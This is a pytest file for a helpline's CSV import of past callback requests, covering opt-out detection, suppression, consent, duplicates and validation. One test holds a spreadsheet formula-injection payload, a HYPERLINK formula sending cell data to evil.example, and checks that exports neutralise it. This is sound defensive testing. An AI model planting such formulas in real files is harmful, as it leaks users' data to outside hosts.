"""Bringing in history.

Good rows are kept with their own times, bad ones are told, and nobody is rung for the past.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlmodel import col, select

from leads.__main__ import main
from leads.callbacks import callback_offers, completion, opt_out
from leads.contact_rules import suppression
from leads.database.transactions import reader, transaction
from leads.errors import BadConfiguration, BadFile
from leads.helplines import brands_and_sources
from leads.i18n.messages import own_words
from leads.i18n.translatable import translate
from leads.intake.csv_import import csv_table, run
from leads.intake.csv_import.csv_row import COLUMN_TITLES, COLUMNS, PastRequest
from leads.intake.csv_import.run import ImportResult
from leads.models.calls import Callback
from leads.models.enums import CallbackState, ErasureReason
from leads.models.helplines import Brand, Source
from leads.models.outbox import Outbox
from leads.models.requests import Consent, Lead, Submission
from leads.models.watching import Transition
from leads.people.permissions import OPERATOR
from leads.privacy import erasure
from leads.read_models import system_status
from leads.reporting import waiting_now
from tests.support.fault_cases import TableFault, load_table_faults
from tests.support.history_files import THEN, a_csv, a_row, the_check_value
from tests.support.people import (
    DAY,
    HOUR,
    MINUTE,
    a_callback,
    a_lead,
    a_submission,
    a_supervisor,
    held_for,
    moves,
    on_duty,
)

STOPS = [
    "opted out", "opted_out", "Opt-Out", "optout", "STOP", "Stop by text", "said stop",
    "opted out", "DNC",
    "unsubscribed", "do not call", "don't call", "DO_NOT_CONTACT", "withdrawn", "revoked consent",
    "stop calling me",
    "no me llamen", "remove me", "asked not to be contacted",
    "asked us to lose the number", "told us to never ring", "asked never to be phoned",
    "pidió que no marquemos",
]  # fmt: skip
OTHER_ENDS = [
    "", "withdrawal, sent to detox", "never called back", "could not be contacted", "no contact",
    "cancelled",
    "helped to stop drinking", "wants to stop using", "stopped drinking", "duplicate",
    "options given", "not interested", "wrong number", "taken off waitlist", "quit the program",
]  # fmt: skip
LATER = THEN + HOUR  # when the files are imported

pytestmark = pytest.mark.usefixtures("database")


def take(rows: Iterable[dict[str, str]], **options: Any) -> ImportResult:
    return run.import_csv_rows(a_csv(rows), actor=OPERATOR, **{"now": LATER, **options})


def only(kind: Any) -> Any:
    with reader() as session:
        return session.exec(select(kind)).one()


def counts() -> dict[str, Any]:
    with reader() as session:
        moved = len(session.exec(select(Transition.id)).all())
        return {
            **system_status.count_records_by_state(session),
            "limbo": len(waiting_now.list_limbo_leads(session)),
            "moves": moved,
        }


@pytest.mark.parametrize(
    ("row", "state", "disposition", "lead", "events"),
    [
        ({"rung": 2, "talked": 3, "closed": 9, "close_reason": "Helped"}, "completed", "helped",
         "closed",
         [("claim", 2), ("call", 2), ("converse", 3), ("dispose", 9)]),
        ({"rung": 2, "talked": 3, "closed": 9, "close_reason": "went well"}, "completed",
         "unrecorded", "closed",
         [("claim", 2), ("call", 2), ("converse", 3), ("dispose", 9)]),
        ({"rung": 2, "talked": 3, "closed": 9, "close_reason": "opt_out"}, "completed", "declined",
         "suppressed",
         [("claim", 2), ("call", 2), ("converse", 3), ("dispose", 9)]),
        ({"rung": 2, "closed": 9, "close_reason": "no answer"}, "exhausted", None, "closed",
         [("claim", 2), ("call", 2), ("exhaust", 9)]),
        ({"rung": 2, "closed": 9, "close_reason": "STOP"}, "cancelled", None, "suppressed",
         [("claim", 2), ("call", 2), ("miss", 2), ("cancel", 9)]),
        ({"closed": 9, "close_reason": "do not contact"}, "cancelled", None, "suppressed",
         [("cancel", 9)]),
        ({"closed": 9, "close_reason": "spam"}, "cancelled", None, "closed", [("cancel", 9)]),
    ],
)  # fmt: skip
def test_what_is_over_keeps_its_times_and_its_end(
    row: dict[str, Any],
    state: str,
    disposition: str | None,
    lead: str,
    events: list[tuple[str, int]],
) -> None:
    assert take([a_row(**row)]).added == 1
    callback, person, submission = only(Callback), only(Lead), only(Submission)
    assert callback.state == state
    assert callback.disposition == disposition
    assert person.state == lead
    assert (callback.received_at, callback.finished_at) == (THEN, THEN + 9 * MINUTE)
    assert callback.first_rung_at == (THEN + 2 * MINUTE if "rung" in row else None)
    assert callback.first_conversation_at == (THEN + 3 * MINUTE if "talked" in row else None)
    assert callback.withdrawn == (lead == "suppressed" and "talked" not in row)
    assert (submission.state, submission.callback_id) == ("admitted", callback.id)
    assert json.loads(submission.body)["closed_at"] == (THEN + 9 * MINUTE).isoformat()
    with reader() as session:
        assert [(move.event, move.at) for move in moves(session, callback)] == [
            (event, THEN + after * MINUTE) for event, after in events
        ]
        assert suppression.is_number_suppressed(session, person.phone) == (lead == "suppressed")
        assert {move.at for move in moves(session, person)} == {THEN + 9 * MINUTE}
        assert [(move.event, move.at) for move in moves(session, submission)] == [("admit", LATER)]


def test_an_opt_out_is_known_by_the_words_that_people_write() -> None:
    stops = [
        reason
        for reason in [*STOPS, *OTHER_ENDS]
        if PastRequest(THEN, closed_at=THEN, close_reason=reason).is_opt_out
    ]
    assert stops == STOPS


def test_the_past_rings_nobody_and_leaves_nobody_in_limbo() -> None:
    with transaction() as session:
        on_duty(session)
    take(row for row in the_check_value() if row["closed_at"])
    with transaction() as session:
        assert callback_offers.offer_next_callback(session, now=LATER + DAY) is None
        assert session.exec(select(Outbox)).first() is None
        assert len(waiting_now.list_limbo_leads(session)) == 0
        assert system_status.count_records_by_state(session)["lead"] == {
            "closed": 8,
            "suppressed": 6,
        }


@pytest.mark.parametrize("row", [{}, {"closed": 1, "close_reason": "helped"}])
def test_a_file_brings_back_the_stop_of_somebody_who_was_erased(row: dict[str, Any]) -> None:
    number = a_row()["phone"]
    with transaction() as session:
        lead, supervisor = a_lead(session, number, name="Bo"), a_supervisor(session)
        opt_out.stop_contact_as_told(
            session, number, supervisor, reason=own_words("by mail"), now=THEN
        )
        erasure.erase_person(session, lead, supervisor, reason=ErasureReason.ASKED, now=THEN)
        assert not suppression.is_number_suppressed(session, number)
    take([a_row(phone=number, **row)])
    with reader() as session:
        assert suppression.is_number_suppressed(session, number)
        waiting = select(Callback).where(Callback.state == CallbackState.WAITING)
        assert session.exec(waiting).all() == []


def test_what_is_still_open_is_admitted_like_a_form() -> None:
    assert (
        take([a_row(name="Jordan Reyes", message="Call me,\nplease", email="j@example.org")]).added
        == 1
    )
    callback, person, submission = only(Callback), only(Lead), only(Submission)
    assert callback.state == "waiting"
    assert callback.received_at == THEN
    assert callback.is_held is False
    assert person.state == "open"
    assert person.name == "Jordan Reyes"
    assert person.email == "j@example.org"
    assert submission.reading["message"] == "Call me,\nplease"
    with transaction() as session:
        on_duty(session)
        attempt = callback_offers.offer_next_callback(session, now=LATER)
        assert attempt is not None
        assert attempt.callback_id == callback.id


@pytest.mark.parametrize(
    ("countries", "phone", "reasons"),
    [
        (["US", "MX"], "+525512345678", []),
        ([], "+525512345678", ["number_policy"]),
        (["MX"], "+13155550142", ["number_policy"]),
    ],
)
def test_a_number_is_held_at_once_that_its_helpline_does_not_call(
    countries: list[str], phone: str, reasons: list[str]
) -> None:
    with transaction() as session:
        brand = brands_and_sources.add_brand(session, "Line", now=THEN)
        brand.called_countries = countries
    assert take([a_row(phone=phone)]).added == 1
    assert held_for(only(Callback)) == reasons


def test_a_suppressed_number_is_withheld_and_one_person_has_one_open_callback() -> None:
    stopped, twice = a_row(), a_row()
    with transaction() as session:
        suppression.suppress_number(
            session, stopped["phone"], reason=own_words("STOP"), actor="sms", now=THEN
        )
    take([stopped, twice | {"received_at": (THEN + MINUTE).isoformat()}, twice])
    with reader() as session:
        states = session.exec(
            select(Submission.state).order_by(col(Submission.received_at), col(Submission.id))
        ).all()
    assert sorted(states) == ["admitted", "duplicate", "withheld"]
    assert only(Callback).received_at == THEN  # whatever the order in the file
    assert counts()["limbo"] == 0


def test_who_was_rung_and_is_still_open_is_tried_again_by_the_cadence() -> None:
    take([a_row(THEN, rung=58)])
    callback = only(Callback)
    assert callback.state == "waiting"
    assert callback.first_rung_at == THEN + 58 * MINUTE
    assert callback.misses == 1
    assert callback.due_at == THEN + 68 * MINUTE
    with reader() as session:
        assert [move.event for move in moves(session, callback)] == ["claim", "call", "miss"]


@pytest.mark.parametrize(
    ("row", "hold"),
    [
        (a_row(rung=1, talked=2), "talked_before_import"),
        (a_row(THEN - 91 * DAY), "stale_import"),
    ],
)
def test_a_person_looks_first_where_a_call_might_not_be_wanted(
    row: dict[str, str], hold: str
) -> None:
    take([row])
    assert held_for(only(Callback)) == [hold]
    with transaction() as session:
        on_duty(session)
        assert callback_offers.offer_next_callback(session, now=LATER) is None


def test_who_opted_out_later_in_the_same_file_is_not_rung_for_an_older_request() -> None:
    older = a_row(THEN - DAY)
    take([older, a_row(THEN, phone=older["phone"], closed=5, close_reason="opted out")])
    assert counts()["submission"] == {"admitted": 1, "withheld": 1}
    assert (only(Callback).received_at, counts()["limbo"]) == (THEN, 0)


def test_history_does_not_hold_back_or_close_who_asked_here() -> None:
    row = a_row(THEN - 2 * DAY, closed=5, close_reason="opted out")
    with transaction() as session:
        lead = a_lead(session, row["phone"])
        a_callback(session, lead, received_at=THEN, promised_at=THEN, due_at=THEN)
    take([row, a_row(THEN - DAY, phone=row["phone"], rung=1, talked=2, closed=3)])
    with reader() as session:
        mine = session.exec(select(Callback).where(Callback.received_at == THEN)).one()
        assert (mine.state, held_for(mine)) == ("waiting", ["stopped_before"])
        assert session.get_one(Lead, lead.id).state == "open"
        assert len(waiting_now.list_limbo_leads(session)) == 0


def test_an_opt_out_ends_what_was_open_before_it_but_not_what_was_taken_back() -> None:
    open_here, taken_back = (
        a_row(closed=5, close_reason="STOP"),
        a_row(closed=5, close_reason="STOP"),
    )
    with transaction() as session:
        mine = a_callback(session, a_lead(session, open_here["phone"]), received_at=THEN - HOUR)
        a_lead(session, taken_back["phone"], state="closed")
        suppression.suppress_number(
            session, taken_back["phone"], reason=own_words("STOP"), actor="sms", now=THEN - HOUR
        )
        suppression.lift_suppression(
            session, taken_back["phone"], actor="advisor:1", now=THEN + HOUR / 2
        )
    take([open_here, taken_back])
    with reader() as session:
        assert session.get_one(Callback, mine.id).state == "cancelled"
        assert suppression.is_number_suppressed(session, open_here["phone"])
        assert not suppression.is_number_suppressed(session, taken_back["phone"])
        assert len(waiting_now.list_limbo_leads(session)) == 0


def test_a_file_does_not_undo_a_no() -> None:
    row = a_row()
    with transaction() as session:
        lead, said = a_lead(session, row["phone"]), a_submission(session)
        session.add(
            Consent(
                submission_id=said.id,
                lead_id=lead.id,
                phone=lead.phone,
                granted=False,
                given_at=THEN,
            )
        )
        a_callback(session, lead, received_at=THEN - HOUR, hold="no_consent")
        on_duty(session)
    take([row, a_row(THEN - DAY, phone=row["phone"], closed=1)])
    with transaction() as session:
        assert callback_offers.offer_next_callback(session, now=LATER) is None


@pytest.mark.parametrize(
    ("column", "cell", "fact", "kept"),
    [
        ("State", "Hawaii", "region", "Hawaii"),
        ("Estado", "abierto", "region", ""),
        ("ZIP code", "96815", "zip", "96815"),
        ("Best time to call", "not before 5pm", "best_time", "not before 5pm"),
        ("Preferred language", "Spanish", "language", "Spanish"),
    ],
)
def test_where_and_when_a_row_says_to_call_counts(
    column: str, cell: str, fact: str, kept: str
) -> None:
    row = a_row()
    run.import_csv_rows(with_column(a_csv([row]), column, cell), actor=OPERATOR, now=LATER)
    assert getattr(only(Lead), fact) == kept


def with_column(table: bytes, column: str, cell: str) -> bytes:
    """Return a table of one row with another column."""
    header, line, *_ = table.decode().splitlines()
    return f"{header},{column}\n{line},{cell}\n".encode()


def test_two_names_at_one_number_of_a_file_are_two_people() -> None:
    row = a_row(closed=1)
    names = ("Ann", "Bea", "Ann Lee", "", "Bea")
    times = (THEN - day * DAY for day in range(1, 6))
    take(
        a_row(at, phone=row["phone"], closed=1) | {"name": name}
        for at, name in zip(times, names, strict=True)
    )
    with reader() as session:
        leads = session.exec(select(Lead).order_by(Lead.nth_at_number)).all()
        callbacks = session.exec(select(Callback.lead_id)).all()
    assert {lead.name.split()[0] for lead in leads} == {"Ann", "Bea"}
    assert [lead.nth_at_number for lead in leads] == [1, 2]
    assert sorted(callbacks.count(lead.id) for lead in leads) == [2, 3]


@pytest.mark.parametrize("is_over", [True, False])
def test_two_names_at_one_number_in_the_same_second_are_two_requests(*, is_over: bool) -> None:
    row = a_row(closed=1) if is_over else a_row()
    rows = [row | {"name": name} for name in ("Ann", "Bea", "Cleo")]
    told = take(rows[:2])
    assert (told.added, told.rejected) == (2, ())
    assert take(rows[::-1], now=LATER + HOUR).added == 1
    fuller = take([row | {"name": "Ann Lee"}, row | {"name": "BEA "}], now=LATER + HOUR)
    assert fuller.added == (0 if is_over else 2)
    with reader() as session:
        leads = session.exec(select(Lead.id).order_by(col(Lead.id))).all()
        callbacks = session.exec(select(Callback.lead_id).order_by(col(Callback.id))).all()
    assert (len(leads), list(callbacks)) == (3, list(leads))


def test_importing_twice_adds_nothing() -> None:
    rows = [*the_check_value(), a_row(phone="12"), a_row(), a_row(rung=3)]
    first = take(rows)
    before = counts()
    again = take(reversed(rows), now=LATER + HOUR)
    assert first.added == 22
    assert first.repeated == 0
    assert len(first.rejected) == 1
    assert again.added == 0
    assert again.repeated == 22
    assert len(again.rejected) == 1
    assert counts() == before
    row = a_row()
    assert (take([row, row]).added, take([row]).repeated) == (1, 1)


def test_two_imports_at_once_take_every_row_once() -> None:
    rows = [
        *(a_row(closed=3, close_reason="helped") for _ in range(40)),
        *(a_row() for _ in range(40)),
    ]
    with ThreadPoolExecutor(2) as both:
        found = list(both.map(take, [rows, rows[::-1]]))
    assert [one.rejected for one in found] == [(), ()]
    assert sum(one.added for one in found) == sum(one.repeated for one in found) == 80
    assert counts()["callback"] == {"cancelled": 40, "waiting": 40}
    assert counts()["submission"] == {"admitted": 80}
    assert counts()["limbo"] == 0


def test_a_row_that_has_changed_since_is_not_a_second_request() -> None:
    row = a_row(rung=2, closed=9)
    take([row])
    told = take([row | {"closed_at": (THEN + 20 * MINUTE).isoformat()}])
    assert (told.added, told.rejected[0].reason) == (0, run.IMPORTED_DIFFERENTLY)
    still = a_row()
    take([still])
    assert take([still | {"first_rung_at": (THEN + MINUTE).isoformat()}]).added == 1
    with reader() as session:
        _, waiting = session.exec(select(Callback).order_by(col(Callback.id))).all()
    assert (waiting.state, waiting.first_rung_at) == ("waiting", THEN + MINUTE)
    with transaction() as session:
        mine = session.get_one(Callback, waiting.id)
        completion.cancel_callback(
            session, mine, a_supervisor(session), reason="done elsewhere", now=LATER
        )
    assert take([still | {"message": "I wrote more."}], now=LATER + HOUR).added == 1
    assert counts()["callback"] == {"exhausted": 1, "cancelled": 1}


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"received_at": ""}, "received_at is empty."),
        ({"received_at": "2025-03-04T12:00:00"}, "received_at has no UTC offset"),
        ({"received_at": "2025-03-04"}, "received_at has no UTC offset"),
        ({"received_at": "yesterday"}, "received_at is not a time"),
        ({"received_at": "0001-01-01T00:00:00+14:00"}, "received_at is before the year 2000."),
        (
            {"received_at": (LATER + timedelta(seconds=1)).isoformat()},
            "received_at is in the future.",
        ),
        ({"rung": -1}, "first_rung_at is before received_at."),
        ({"rung": 3, "talked": 2}, "first_conversation_at is before first_rung_at."),
        ({"talked": 2}, "There is first_conversation_at but no first_rung_at."),
        ({"closed": -1}, "closed_at is before received_at."),
        ({"rung": 3, "closed": 2}, "closed_at is before first_rung_at."),
        ({"rung": 1, "talked": 3, "closed": 2}, "closed_at is before first_conversation_at."),
        ({"closed": 61}, "closed_at is in the future."),
        ({"close_reason": "helped"}, "There is close_reason but no closed_at."),
        ({"phone": ""}, "There is no phone number."),
        ({"phone": "555"}, "The phone number cannot be dialed."),
        ({"name": "x" * 20_001}, "A cell is longer than 20000 characters."),
        ({"message": "a\x00b"}, "It contains an invalid character (NUL)."),
    ],
)
def test_a_bad_row_is_told_and_the_good_ones_are_kept(changes: dict[str, Any], reason: str) -> None:
    found = take([a_row(), a_row(**changes), a_row(closed=1)])
    assert (found.added, [row.line for row in found.rejected]) == (2, [3])
    assert found.rejected[0].reason.startswith(reason)
    header, bad = csv.reader(io.StringIO(found.rejected_csv, newline=""))
    assert header == [*COLUMNS, "line", "reason"]
    assert bad[-2:] == ["3", found.rejected[0].reason]
    with reader() as session:
        assert len(session.exec(select(Submission)).all()) == 2


def test_a_cell_that_never_ends_is_told() -> None:
    found = take([a_row(message="x" * 200_000), a_row()])
    assert (found.added, found.rejected[0].line) == (1, 2)
    assert found.rejected[0].reason == "Its quotation marks do not match, or a cell is too long."


def test_an_edge_is_not_a_mistake() -> None:
    assert (
        take([a_row(rung=0, talked=0, closed=0), a_row(LATER), a_row(THEN, closed=60)]).rejected
        == ()
    )


def test_a_file_has_the_reader_s_words_and_is_read_in_them() -> None:
    titles = [translate("es", title) for title in COLUMN_TITLES.values()]
    assert len(set(titles) & set(COLUMNS)) == 0
    rows = [[*a_row().values()], [*a_row(phone="12", closed=3).values()]]
    out = io.StringIO()
    csv.writer(out).writerows([titles, *rows])
    found = run.import_csv_rows(out.getvalue().encode(), actor=OPERATOR, language="es", now=LATER)
    assert (found.added, len(found.rejected)) == (1, 1)
    header, bad = csv.reader(io.StringIO(found.rejected_csv, newline=""))
    assert header == [*titles, "línea_del_archivo", "motivo_del_rechazo"]
    assert bad[-2:] == ["3", "No se puede marcar el número de teléfono."]
    mended = found.rejected_csv.replace(",12,", ",+13155580001,")
    assert run.import_csv_rows(mended.encode(), actor=OPERATOR, now=LATER).added == 1
    with reader() as session:
        bodies = session.exec(select(Submission.body)).all()
    assert [list(json.loads(body)) for body in bodies] == [titles, titles]


def test_what_was_rejected_can_be_mended_and_imported() -> None:
    good, bad = a_row(), a_row(phone="12", message='a "quoted"; word')
    first = take([good, bad])
    mended = first.rejected_csv.replace(",12,", ",+13155580001,")
    again = run.import_csv_rows(mended.encode(), actor=OPERATOR, now=LATER)
    assert again.added == 1
    assert again.repeated == 0
    assert again.rejected == ()
    bad["phone"] = "+13155580001"
    assert take([good, bad]).repeated == 2
    assert run.import_csv_rows(
        first.rejected_csv.encode(), actor=OPERATOR, now=LATER
    ).rejected_csv == first.rejected_csv.replace(",3,The", ",2,The")
    with reader() as session:
        bodies = session.exec(select(Submission.body)).all()
    assert [tuple(json.loads(body)) for body in bodies] == [COLUMNS, COLUMNS]


def test_no_spreadsheet_carries_out_what_was_rejected() -> None:
    said = {"name": "@SUM(1)", "message": '=HYPERLINK("https://evil.example?" & A1)'}
    first = take([a_row(phone="+12", **said)])
    header, bad = csv.reader(io.StringIO(first.rejected_csv, newline=""))
    shown = dict(zip(header, bad, strict=True))
    assert {name: shown[name] for name in said} == {name: f"'{said[name]}" for name in said}
    assert shown["phone"] == "+12"
    mended = first.rejected_csv.replace(",+12,", ",+13155580001,")
    assert run.import_csv_rows(mended.encode(), actor=OPERATOR, now=LATER).added == 1
    assert take([a_row(phone="+13155580001", **said)]).repeated == 1
    with reader() as session:
        body = json.loads(session.exec(select(Submission.body)).one())
    assert {name: body[name] for name in said} == said


def test_no_spreadsheet_carries_out_the_name_of_a_column() -> None:
    header, row = csv.reader(io.StringIO(a_csv([a_row(phone="+12")]).decode(), newline=""))
    written = io.StringIO(newline="")
    csv.writer(written).writerows([[*header, "=1+A1"], [*row, "7"]])
    found = run.import_csv_rows(written.getvalue().encode(), actor=OPERATOR, now=LATER)
    named, bad = csv.reader(io.StringIO(found.rejected_csv, newline=""))
    assert dict(zip(named, bad, strict=True))["'=1+A1"] == "7"


@pytest.mark.parametrize(
    "written",
    [
        lambda text: text.encode("utf-8-sig"),
        lambda text: text.encode("cp1252"),
        lambda text: text.encode("utf-16"),
        lambda text: text.replace(",", ";").encode(),
        lambda text: text.replace(",", "\t").encode("utf-16"),
        lambda text: text.replace("\r\n", "\n").encode(),
        lambda text: text.replace("\r\n", "\r").encode(),
        lambda text: text.replace("received_at", " Received At ").encode(),
        lambda text: (
            "\r\n".join(f"{line},," for line in text.splitlines()) + "\r\n,,,\r\n\r\n"
        ).encode(),
    ],
)
def test_a_file_is_read_however_a_tool_saved_it(written: Any) -> None:
    text = a_csv([a_row(name="José Muñoz", closed=1)]).decode()
    found = run.import_csv_rows(written(text), actor=OPERATOR, now=LATER)
    assert (found.added, found.rejected) == (1, ())
    assert only(Lead).name == "José Muñoz"


def test_a_forgotten_quotation_mark_costs_one_row() -> None:
    rows = [a_row(message=text) for text in ("before", "FORGOTTEN", "QUOTED", "a, b", "two\nlines")]
    written = a_csv(rows).replace(b"QUOTED", b'"quoted"')
    found = run.import_csv_rows(
        written.replace(b"FORGOTTEN", b'"forgotten'), actor=OPERATOR, now=LATER
    )
    assert (found.added, [row.line for row in found.rejected]) == (4, [3])
    assert '"forgotten' in found.rejected_csv.replace('""', '"')
    found = run.import_csv_rows(
        written.replace(b"FORGOTTEN", b"one,two"), actor=OPERATOR, now=LATER
    )
    assert [row.reason for row in found.rejected] == ["It has 11 cells; the first row has 10."]
    assert found.repeated == 4


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (b"", "The first row must name the columns: received_at, name, phone"),
        (b"Ana,+13155550101\n", "The first row must name the columns"),
        (b"\x89PNG\r\n\x81\x8d", "This is not a text file"),
        (
            b"received_at,phone,first_ring_at\n",
            "One column name may be a misspelling of first_rung_at",
        ),
        (b"received_at,name\n", "Missing columns in the first row: phone."),
        (b"received_at,phone,phone\n", "Duplicate columns: phone."),
    ],
)
def test_a_file_that_is_no_table_is_refused_with_a_sentence(content: bytes, sentence: str) -> None:
    with pytest.raises(BadFile, match=sentence):
        run.import_csv_rows(content, actor=OPERATOR, now=LATER)


def test_columns_that_are_not_needed_may_be_missing() -> None:
    content = a_csv([a_row()], columns=("received_at", "phone"))
    assert run.import_csv_rows(content, actor=OPERATOR, now=LATER).added == 1
    assert only(Callback).state == "waiting"


def test_a_source_is_found_by_name_and_numbers_are_read_as_in_its_country() -> None:
    with transaction() as session:
        british = brands_and_sources.add_source(session, "Our Website", region="GB", now=THEN)
    rows = [
        a_row(source="our website", phone="020 7946 0018"),
        a_row(source="Fair in May"),
        a_row(phone="020 7946 0018"),
    ]
    found = take(rows)
    assert found.added == 2
    assert found.elsewhere == 1
    assert [row.line for row in found.rejected] == [4]
    with reader() as session:
        first, second = session.exec(select(Submission).order_by(col(Submission.id))).all()
        assert (first.source_id, first.reading["phone"]) == (british.id, "+442079460018")
        assert second.reading["campaign"] == "Fair in May"
        assert session.get_one(Source, second.source_id).name == "import"
    take([a_row(closed=1)])
    with reader() as session:
        assert len(session.exec(select(Source)).all()) == 2


def test_with_several_brands_one_has_to_be_named() -> None:
    with transaction() as session:
        for name in ("One Line", "Two Line"):
            brands_and_sources.add_brand(session, name, now=THEN)
            brands_and_sources.add_source(session, "Site", brand_name=name, now=THEN)
    rows = [a_row(), a_row(source="Site"), a_row(source="elsewhere")]
    found = take(rows)
    assert (found.added, all("--brand" in row.reason for row in found.rejected)) == (0, True)
    assert take(rows, brand_name="Two Line").added == 3
    with reader() as session:
        brands = session.exec(
            select(Brand.name).join(Callback, col(Callback.brand_id) == col(Brand.id))
        ).all()
    assert brands == ["Two Line"] * 3
    with pytest.raises(BadConfiguration, match="There is no helpline Three Line"):
        take(rows, brand_name="Three Line")


def test_a_row_longer_than_any_form_is_told_and_the_bar_moves_on_between_long_ones() -> None:
    told: list[int] = []
    long = "x" * (csv_table.LONGEST_CELL - 1)
    rows = [a_row(closed=1, message=long, name=f"N{n}") for n in range(12)]
    rows.append(a_row(message=long, name=long))
    found = take(rows, progress=lambda done, _total: told.append(done))
    assert (found.added, [row.line for row in found.rejected]) == (12, [14])
    assert found.rejected[0].reason.startswith("It is too long to be read: ")
    assert told == [11, 13]


def test_progress_is_told_for_every_row_good_and_bad() -> None:
    told: list[tuple[int, int]] = []
    rows = [a_row(closed=1) for _ in range(run.BATCH + 1)] + [
        a_row(phone=""),
        a_row(received_at="x"),
    ]
    found = take(rows, progress=lambda done, total: told.append((done, total)))
    assert [row.line for row in found.rejected] == [203, 204]
    assert told == [(201, 203), (202, 203), (203, 203)]


def test_the_command_says_what_came_of_a_file(
    database: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("DATABASE_URL", database)
    path = tmp_path / "old leads.csv"
    path.write_bytes(a_csv([a_row(closed=1), a_row(phone="12", name="Jordan Reyes")]))
    assert main(["import", str(path), "--json"]) == 0
    printed = capsys.readouterr()
    beside = tmp_path / "old leads.rejected.csv"
    assert json.loads(printed.out) == {
        "added": 1,
        "repeated": 0,
        "rejected": [{"line": 3, "reason": "The phone number cannot be dialed."}],
        "rejected_file": str(beside),
        "unknown_sources": 0,
        "held": 0,
        "stopped": 0,
    }
    assert "2/2" in printed.err
    assert "Jordan Reyes" in beside.read_text()
    assert main(["import", str(path)]) == 0
    printed = capsys.readouterr()
    assert "0 added, 1 already on file, 1 rejected." in printed.out
    assert "row 3: The phone number cannot be dialed." in printed.out
    assert "Jordan" not in printed.out + printed.err
    assert main(["import", str(beside)]) == 1
    assert main(["import", str(tmp_path / "none.csv")]) == 2
    assert "none.csv cannot be read: No such file or directory." in capsys.readouterr().err
    assert main(["import", str(tmp_path)]) == 2


@pytest.mark.parametrize(
    ("cell", "reason"),
    [
        ("315-555-XXXX", "The phone number cannot be dialed."),
        ("212-555-NONE", "The phone number cannot be dialed."),
        ("TBD", "The phone number cannot be dialed."),
        ("6025550140;6025550141", "The phone number cannot be dialed."),
        ("(457) 555-0142", "This area code is not on any list yet."),
    ],
)
@pytest.mark.usefixtures("database")
def test_a_number_with_letters_or_two_or_of_no_known_code_is_rejected_and_told(
    cell: str, reason: str
) -> None:
    result = run.import_csv_rows(a_csv([a_row(phone=cell)]), actor=OPERATOR, now=THEN + DAY)
    assert (result.added, len(result.rejected)) == (0, 1)
    assert result.rejected[0].reason.startswith(reason)


@pytest.mark.usefixtures("database")
def test_an_extension_and_a_new_area_code_are_taken_from_a_file() -> None:
    rows = [a_row(phone="(315) 555-0142 x204"), a_row(phone="(436) 555-0142 ext.")]
    assert run.import_csv_rows(a_csv(rows), actor=OPERATOR, now=THEN + DAY).added == len(rows)
    with reader() as session:
        known = session.exec(select(Lead.phone, Lead.phone_extension)).all()
    assert set(known) == {("+13155550142", "204"), ("+14365550142", "")}


TABLES = list(load_table_faults(Path(__file__).parents[1] / "forms" / "data" / "faults"))


@pytest.mark.parametrize("table", TABLES, ids=lambda table: f"{table.group}/{table.name}")
@pytest.mark.usefixtures("database")
def test_a_table_that_was_once_read_wrongly_is_read_as_it_is_meant(table: TableFault) -> None:
    result = run.import_csv_rows(
        table.content, actor=OPERATOR, now=datetime(2026, 11, 28, tzinfo=UTC)
    )
    assert table.find_faults(result) == []
